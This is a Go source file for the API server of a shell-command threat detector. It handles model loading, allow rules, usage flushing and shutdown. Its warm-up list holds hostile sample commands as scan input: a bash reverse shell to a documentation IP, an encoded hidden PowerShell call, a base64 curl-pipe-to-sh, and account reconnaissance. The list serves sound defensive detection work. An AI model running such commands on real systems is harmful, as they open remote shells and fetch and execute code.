package api

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"github.com/vigilsec/vigil/internal/alerting"
	"github.com/vigilsec/vigil/internal/allowlist"
	"github.com/vigilsec/vigil/internal/command/detect"
	"github.com/vigilsec/vigil/internal/config"
	hdetect "github.com/vigilsec/vigil/internal/httpreq/detect"
	"github.com/vigilsec/vigil/internal/session"
	"github.com/vigilsec/vigil/internal/store"
	"github.com/vigilsec/vigil/internal/usage"
	"github.com/vigilsec/vigil/internal/web"
	"github.com/vigilsec/vigil/models"
)

// maxStreamClients bounds the clients of GET /v1/alerts/stream.
const maxStreamClients = 1000

// Options configure a Server.
type Options struct {
	Config config.Server
	Store  store.Store // owned by the caller, who closes it after Close
	Logger *slog.Logger
	// Version is reported by /health and the OpenAPI document.
	Version string
	// Now is time.Now outside tests.
	Now func() time.Time
	// Session is the session classifier; nil loads the embedded model.
	Session *session.Detector
	// HTTP is the HTTP request detector; nil loads the embedded models.
	HTTP *hdetect.Detector
}

// Server is the HTTP service. Create it with New, give it a detector with
// Load, serve Handler (or call Serve), and Close it.
type Server struct {
	cfg     config.Server
	st      store.Store
	log     *slog.Logger
	now     func() time.Time
	version string

	det     atomic.Pointer[detect.Detector]
	sess    *session.Detector
	http    *hdetect.Detector
	level   int // index in detect.Labels of the least label stored as an alert
	allow   *allowlist.List
	feed    *alerting.Feed
	rec     *alerting.Recorder
	usage   *usage.Counter
	limits  *limiter
	keys    *keyCache
	m       *metrics
	ui      *web.Dashboard
	mux     *http.ServeMux
	routes  []route
	openapi []byte

	inFlight  atomic.Int64
	stop      chan struct{}
	bg        sync.WaitGroup
	closeOnce sync.Once
}

// New builds a server over an open store: it loads the allow rules and
// starts the alert writer and the periodic flush. It is not ready (scan
// routes answer 503) until Load succeeds.
func New(ctx context.Context, o Options) (*Server, error) {
	if err := o.Config.Validate(); err != nil {
		return nil, err
	}
	if o.Store == nil {
		return nil, errors.New("api: no store")
	}
	now, log := o.Now, o.Logger
	if now == nil {
		now = time.Now
	}
	if log == nil {
		log = slog.New(slog.DiscardHandler)
	}
	s := &Server{cfg: o.Config, st: o.Store, log: log, now: now, version: o.Version,
		allow: allowlist.New(), feed: alerting.NewFeed(o.Config.SSEBuffer, maxStreamClients),
		usage: usage.New(now), limits: newLimiter(), keys: newKeyCache(o.Config.AuthCacheTTL),
		mux: http.NewServeMux(), stop: make(chan struct{})}
	s.level = labelRank(o.Config.AlertLevel)
	if s.sess = o.Session; s.sess == nil {
		sd, err := session.Load(models.FS)
		if err != nil {
			return nil, fmt.Errorf("load session model: %w", err)
		}
		s.sess = sd
	}
	if s.http = o.HTTP; s.http == nil {
		hd, err := loadHTTP()
		if err != nil {
			return nil, err
		}
		s.http = hd
	}
	ui, err := web.New()
	if err != nil {
		return nil, err
	}
	s.ui = ui
	if err := s.allow.Reload(ctx, s.st, s.log); err != nil {
		return nil, err
	}
	s.rec = alerting.NewRecorder(s.st, s.feed, o.Config.AlertQueue, s.log)
	if s.m, err = newMetrics(s); err == nil {
		err = s.register()
	}
	if err != nil {
		s.rec.Close(ctx)
		return nil, err
	}
	s.bg.Add(1)
	go s.background()
	return s, nil
}

// labelRank returns a label's index in detect.Labels (-1 when unknown).
func labelRank(label string) int {
	for i, l := range detect.Labels {
		if l == label {
			return i
		}
	}
	return -1
}

// Handler returns the server's HTTP handler.
func (s *Server) Handler() http.Handler { return http.HandlerFunc(s.serveHTTP) }

// Ready reports whether the models are loaded and warm.
func (s *Server) Ready() bool { return s.det.Load() != nil }

// Load builds the detector, warms it and makes the server ready,
// recording how long that took.
func (s *Server) Load(build func() (*detect.Detector, error)) error {
	start := time.Now()
	d, err := build()
	if err != nil {
		return fmt.Errorf("load detector: %w", err)
	}
	if err := warm(d); err != nil {
		return err
	}
	took := time.Since(start)
	s.m.modelLoad.Set(took.Seconds())
	s.det.Store(d)
	s.m.ready.Set(1)
	s.log.Info("models loaded and warm", "seconds", took.Seconds())
	return nil
}

// warmCommands touch every stage of the detector (deobfuscation of both
// shells, the rules, both tiers) so the first real request pays no
// first-use cost.
var warmCommands = []string{
	"ls -la /tmp",
	"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
	"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
	"echo Y3VybCBodHRwOi8vZXhhbXBsZS5jb20vYS5zaCB8IHNo | base64 -d | sh",
	"cmd /c \"whoami /all & net user\"",
	"nmap -sn 10.0.0.0/24",
}

func warm(d *detect.Detector) error {
	for _, c := range warmCommands {
		if _, err := d.Scan(c); err != nil {
			return fmt.Errorf("warm-up scan %q: %w", c, err)
		}
	}
	return nil
}

// background flushes usage counts and allow-rule hits, and reloads the
// allow rules, until Close.
func (s *Server) background() {
	defer s.bg.Done()
	flush := time.NewTicker(s.cfg.UsageFlush)
	reload := time.NewTicker(s.cfg.AllowReload)
	defer flush.Stop()
	defer reload.Stop()
	for {
		select {
		case <-s.stop:
			return
		case <-flush.C:
			s.flush(context.Background())
		case <-reload.C:
			if err := s.allow.Reload(context.Background(), s.st, s.log); err != nil {
				s.log.Warn("reload allow rules", "err", err)
			}
		}
	}
}

// flush writes usage and allow-rule hits; failures are kept for the next
// flush, logged and counted.
func (s *Server) flush(ctx context.Context) {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	err := errors.Join(s.usage.Flush(ctx, s.st), s.allow.FlushHits(ctx, s.st))
	if err != nil {
		s.m.flushErrors.Inc()
		s.log.Warn("flush usage and allow-rule hits", "err", err)
	}
}

// Close ends the alert streams, writes the queued alerts and the pending
// usage and hits, and stops the background work. It does not close the
// store. Call it after the HTTP server has drained.
func (s *Server) Close(ctx context.Context) error {
	var err error
	s.closeOnce.Do(func() {
		s.feed.Close()
		close(s.stop)
		s.bg.Wait()
		err = s.rec.Close(ctx)
		s.flush(ctx)
	})
	return err
}
